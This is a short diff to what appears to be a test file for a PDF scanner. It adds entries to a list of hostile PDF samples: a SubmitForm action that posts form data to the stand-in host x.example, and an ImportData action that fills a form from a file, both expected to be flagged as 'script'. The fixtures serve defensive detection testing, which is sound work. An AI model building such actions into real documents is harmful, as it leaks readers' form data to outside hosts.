@@ -100,6 +100,8 @@ HOSTILE: list[tuple[str, str, bytes, str]] = [
         "attachment",
     ),
     ("a catalogue in the trailer", "a.pdf", pdf_with_direct_catalogue(), "script"),
+    ("a form that is sent away", "a.pdf", pdf_with(b"/X 4 0 R", b"<</S/SubmitForm/F(http://x.example)>>"), "script"),
+    ("a form filled from a file", "a.pdf", pdf_with(b"/X 4 0 R", b"<</S/ImportData/F(a.fdf)>>"), "script"),
     ("a 3D model that runs a script", "a.pdf", pdf_with_stream(b"", b"/OnInstantiate 1 0 R"), "script"),
     ("a 3D model", "a.pdf", pdf_with(b"/X 4 0 R", b"<</Type/Annot/Subtype/3D/3DD 1 0 R>>"), "attachment"),
     ("a view of a 3D model", "a.pdf", pdf_with(b"/X 4 0 R", b"<</S/GoTo3DView>>"), "attachment"),
